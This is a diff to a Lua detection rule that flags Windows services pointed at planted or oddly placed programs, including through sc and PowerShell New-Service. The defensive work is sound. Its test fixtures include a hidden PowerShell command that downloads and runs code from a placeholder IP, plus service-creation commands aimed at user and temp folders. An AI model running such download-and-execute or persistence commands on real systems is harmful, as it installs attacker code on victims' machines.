@@ -35,20 +35,35 @@ local function is_planted(case, process)
     return file ~= nil and not dropped.by_installer(file) and not places.in_program_files(file.path, case)
 end
 
+-- The file that a service is to run or load; what "\??\" and "\SystemRoot" stand for is left out.
+local function file_of(data, case, index)
+    local path = plain_path(data):gsub([[^\[Ss]ystem[Rr]oot\]], [[C:\Windows\]])
+        :gsub("^%%[Ss]ystem[Rr]oot%%", [[C:\Windows]])
+    return dropped.file(case, path, index) or dropped.file(case, path:match "^%S+" or path, index)
+end
+
+-- Where no program is at home; of these, on a drive's root only what was just put there.
+local ODD = { data = true, share = true, root = true }
+
 local function is_suspect(data, case, index)
     if places.in_user_place(data, case) then return true end
     if runs_another(data) then return true end
-    local file = dropped.file(case, plain_path(data), index)
+    local file = file_of(data, case, index)
+    local odd = places.oddity((data:gsub("^\\%?%?\\", "")))
+    if odd == "data" or (ODD[odd] and file and not dropped.by_installer(file)) then return true end
+    if data:find([[\\127.0.0.1\]], 1, true) or data:lower():find([[\admin$\]], 1, true) then return true end
     local maker = file and not dropped.by_installer(file) and dropped.maker(file)
     return maker and (places.in_user_place(say.image(maker), case) or is_planted(case, maker)) or false
 end
 
--- Windows' service host writes for whoever asked: most likely who put there what the service runs.
+-- Windows' service host writes for whoever asked: most likely who put there what the service runs, or runs already.
 local function planter(case, event, data)
     if not lineage.is_shell(event.process) then return nil end
-    local file = dropped.file(case, plain_path(data), event.index)
+    local file = file_of(data, case, event.index)
     local maker = file and not dropped.by_installer(file) and dropped.maker(file)
-    return maker and lineage.requester(maker) or nil
+    if maker then return lineage.requester(maker) end
+    local program = case:file(plain_path(data):match "^(.-%.[eE][xX][eE])%s" or plain_path(data))
+    return program and program.run_as
 end
 
 local function on_registry(event, case)
@@ -58,7 +73,26 @@ local function on_registry(event, case)
     case:finding { process = process, key = name, event = event }
 end
 
+-- The service's name where PowerShell is told to make or change one.
+local function by_cmdlet(line)
+    return command.first(line, function(each)
+        local text = each.text:match "[Nn]ew%-[Ss]ervice%s.*" or each.text:match "[Ss]et%-[Ss]ervice%s.*"
+        return text and text:lower():find("binarypathname", 1, true)
+            and (text:match "%-[Nn]ame%s+['\"]?([^'\"%s]+)" or text:match "^%S+%s+['\"]?([^-'\"%s][^'\"%s]*)")
+    end)
+end
+
 local function on_command(event, case)
+    local made = by_cmdlet(event.child.command_line)
+    if made then
+        local requester = lineage.requester(event.process)
+        asked(case)[made:lower()] = requester
+        local program = event.child.command_line:lower():match "binarypathname%s+(.*)$"
+        if places.in_user_place(program or "", case) then
+            case:finding { process = requester, key = made, event = event }
+        end
+        return
+    end
     local name = command.first(event.child.command_line, function(each)
         return each.program == "sc" and each:says("create", "config") and each.folded:find "binpath%s*=" and each.words
             or nil
@@ -75,6 +109,8 @@ end
 
 -- What `sc` was told that the service runs; the whole command where it does not say.
 local function program_of(line)
+    local path = line:match "[Bb]inary[Pp]ath[Nn]ame%s+[\"']?([^\"']+)"
+    if path then return path end
     return command.first(line, function(each)
         local at = each.program == "sc" and each.folded:find("binpath%s*=")
         local value = at and each.text:sub(at):match '^[%w]+%s*=%s*(.+)$'
@@ -118,7 +154,7 @@ rule {
     author = "kaiseki",
     match = (operation:is "RegSetValue" & result:is "SUCCESS" & path:contains [[\Services\]]
              & path:endswith { [[\ImagePath]], [[\ServiceDll]], [[\FailureCommand]] })
-        | (operation:is "Process Create" & child.command_line:contains "sc" & child.command_line:contains "binpath"),
+        | (operation:is "Process Create" & child.command_line:contains { "binpath", "BinaryPathName" }),
     on_event = function(event, case)
         if event.operation == "RegSetValue" then on_registry(event, case) else on_command(event, case) end
     end,
@@ -145,6 +181,12 @@ rule {
               ["registry.type"] = "REG_EXPAND_SZ", ["registry.data"] = [[C:\Users\x\AppData\Local\Temp\abc.exe]] },
             { operation = "Process Create", path = [[C:\Windows\System32\sc.exe]], ["process.name"] = "a.exe",
               ["child.command_line"] = [[sc create abc binPath= "C:\ProgramData\abc.exe" start= auto]] },
+            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
+              ["process.name"] = "a.exe",
+              ["child.command_line"] = [[powershell New-Service -Name S -BinaryPathName C:\Users\Public\a.exe]] },
+            { operation = "RegSetValue", result = "SUCCESS", ["process.name"] = "services.exe",
+              path = [[HKLM\System\CurrentControlSet\Services\abc\ImagePath]],
+              ["registry.type"] = "REG_EXPAND_SZ", ["registry.data"] = [[C:\Windows\Fonts\abc.exe]] },
             { operation = "RegSetValue", result = "SUCCESS", ["process.name"] = "services.exe",
               path = [[HKLM\System\CurrentControlSet\Services\abc\ImagePath]], ["registry.type"] = "REG_EXPAND_SZ",
               ["registry.data"] = "conhost.exe --headless powershell -w hidden -c iex(irm 203.0.113.5)" },
